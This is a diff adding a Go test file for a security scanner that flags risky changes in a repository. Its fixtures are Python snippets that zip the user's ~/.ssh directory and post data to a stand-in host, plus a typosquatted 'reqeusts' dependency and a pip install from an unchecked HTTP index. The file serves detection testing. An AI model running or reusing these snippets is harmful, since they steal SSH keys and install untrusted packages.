@@ -1,0 +1,77 @@
+package static_test
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/aigate/gate/gate"
+	"github.com/aigate/gate/gate/change"
+)
+
+// deciding are the rules with a finding that decides, by file, of a change of a small repository.
+func deciding(t *testing.T, head map[string]string) map[string][]gate.Finding {
+	t.Helper()
+	base := map[string]string{"README.md": "See https://docs.example.com/ for more.\n", "app.py": "print(1)\n", "index.js": "run();\n"}
+	for name, text := range base {
+		if _, ok := head[name]; !ok {
+			head[name] = text
+		}
+	}
+	c, err := change.Compared(t.Context(), treeOf(base), treeOf(head))
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := gate.NewFindings(c.Targets, nil)
+	if _, err := newScanner(t, nil).Run(t.Context(), c, found); err != nil {
+		t.Fatal(err)
+	}
+	out := map[string][]gate.Finding{}
+	for _, target := range c.Targets {
+		for _, f := range found.Of(target.Path) {
+			if f.Decides() && f.Severity >= gate.SeveritySuspicious {
+				out[target.Path] = append(out[target.Path], f)
+			}
+		}
+	}
+	return out
+}
+
+const (
+	packsKeys = "import io, zipfile\nfrom pathlib import Path\ndef bundle():\n    out = io.BytesIO()\n    with zipfile.ZipFile(out, \"w\") as z:\n        for p in (Path.home() / \".ssh\").rglob(\"*\"):\n            z.write(p)\n    return out.getvalue()\n"
+	sendsAway = "import httpx\ndef upload(data):\n    httpx.post(\"https://files.example.net/upload\", content=data)\n"
+)
+
+func TestSignsThatMakeEachOtherDangerous(t *testing.T) {
+	for _, tt := range []struct {
+		name string
+		head map[string]string
+		file string
+		rule string // "" for nothing dangerous
+	}{
+		{"keys are packed, and something is sent to somebody new", map[string]string{"sync.py": packsKeys + sendsAway}, "sync.py", "exfiltration/secrets-to-new-host"},
+		{"keys are packed", map[string]string{"sync.py": packsKeys}, "sync.py", ""},
+		{"something is sent to somebody new", map[string]string{"sync.py": sendsAway}, "sync.py", ""},
+		{"something is sent to somebody who is known", map[string]string{"sync.py": packsKeys + "import httpx\ndef upload(data):\n    httpx.post(\"https://docs.example.com/upload\", content=data)\n"}, "sync.py", ""},
+		{"in two files that have nothing to do with each other", map[string]string{"keys.py": packsKeys, "sync.py": sendsAway}, "sync.py", ""},
+		{"a look-alike, and an index of its own in another file", map[string]string{
+			"requirements.txt": "reqeusts==2.31.0\n", "pip.conf": "[global]\nindex-url = http://pypi.example.net/simple\ntrusted-host = pypi.example.net\n",
+		}, "requirements.txt", "supply-chain/lookalike-from-elsewhere"},
+		{"a look-alike alone", map[string]string{"requirements.txt": "reqeusts==2.31.0\n"}, "requirements.txt", ""},
+		{"packages from an address that nobody checks, installed at run time", map[string]string{
+			"deps.py": "import subprocess, sys\ndef need(name):\n    subprocess.run([sys.executable, \"-m\", \"pip\", \"install\", \"--index-url\", \"http://wheels.example.net/simple\", \"--trusted-host\", \"wheels.example.net\", name], check=True)\n",
+		}, "deps.py", "package-install/installs-from-elsewhere"},
+	} {
+		var dangerous []string
+		for _, f := range deciding(t, tt.head)[tt.file] {
+			if f.Severity == gate.SeverityDangerous {
+				dangerous = append(dangerous, f.Rule)
+				if f.Rule == tt.rule && (f.Line == 0 || len(f.Flow) < 2) {
+					t.Errorf("%s: the finding doesn't say what it is made of: %+v", tt.name, f)
+				}
+			}
+		}
+		if tt.rule == "" && len(dangerous) > 0 || tt.rule != "" && !slices.Contains(dangerous, tt.rule) {
+			t.Errorf("%s: found %q as dangerous, want %q", tt.name, dangerous, tt.rule)
+		}
+	}
+}
